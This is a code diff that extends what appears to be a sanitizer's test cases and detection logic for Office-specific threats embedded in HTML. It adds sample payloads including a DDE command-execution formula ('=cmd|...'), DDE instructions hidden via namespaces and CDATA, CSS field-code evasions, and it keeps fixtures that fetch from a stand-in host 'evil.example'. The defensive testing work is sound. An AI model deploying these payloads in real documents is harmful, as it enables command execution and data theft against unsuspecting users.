@@ -46,6 +46,9 @@ const MARKS: Readonly<Record<string, Write>> = {
     `<style>.b{mso-element:field-begin}.s{mso-element:field-separator}.e{mso-element:field-end}</style>${field((word) => `<i class=${word[0]}></i>`, code)}`,
   'a sheet for pages': (code) =>
     `<style><!-- @page a{size:5in} b.b{color:red;mso-element:field-begin} u{mso-element:field-end} --></style>${field((word) => `<b class=${word[0]}></b>`, code)}`,
+  'a property of a page': (code) => field((word) => begin(`--x:mso-element:field-${word}`), code),
+  'a block that nobody knows': (code) =>
+    `<style>@x{.b{mso-element:field-begin}}@bottom mso-element:field-end{}</style>${field((word) => `<b class=${word[0]}></b>`, code)}`,
   'a code in style': (code) =>
     `<span style='mso-field-code:"${code.replaceAll('"', '\\0022 ').replaceAll("'", '')}"'>x</span>`,
   'a simple field': (code) => `<w:fldSimple w:instr="${code.replaceAll('"', '&quot;')}">x</w:fldSimple>`,
@@ -107,6 +110,11 @@ const OBJECTS: Readonly<Record<string, string>> = {
   'a header of a document': `<style>@page a{mso-header:url("${FILE}.htm") h1;}</style>`,
   'a separator of notes': `<style>@page{mso-footnote-separator:url("cid:header.htm") fs;}</style>`,
   'a formula': '<table><td x:fmla="=WEBSERVICE(&quot;http://evil.example/&quot;)">1</td></table>',
+  'a formula as a text': '<table><td x:str="=cmd|&apos;/c x&apos;!A0">1</td></table>',
+  'a name space of its own': '<html xmlns:q="urn:schemas-microsoft-com:office:word"><q:instrText>DDE cmd</q:instrText>',
+  'an element of a name space':
+    '<xml:namespace ns="urn:schemas-microsoft-com:office:word" prefix="q"/><q:fldSimple>x</q:fldSimple>',
+  'character data': '<![CDATA[<w:instrText>DDE cmd</w:instrText>]]>',
   'a control': '<object classid="clsid:x" codebase="http://evil.example/x.cab"><param name=a value=b></object>',
   'a plug-in': '<embed src="http://evil.example/x.swf">',
   'a tag without an end': `<img src="${FILE}.png" `,
@@ -173,7 +181,7 @@ function threatIn({ tagName, attrs, childNodes }: PageElement): string | null {
       !HARMLESS_ADDRESS.test(value)
     )
       return where;
-    if (/^(?:o:gfxdata|x:fmla|datasrc|w:instr|classid)$/.test(name)) return where;
+    if (/^(?:o:gfxdata|x:fmla|x:str|datasrc|w:instr|classid)$/.test(name)) return where;
     if (tagName === 'meta' && name === 'content' && /excel/i.test(value)) return where;
     if (tagName === 'link' && name === 'rel') return where;
   }
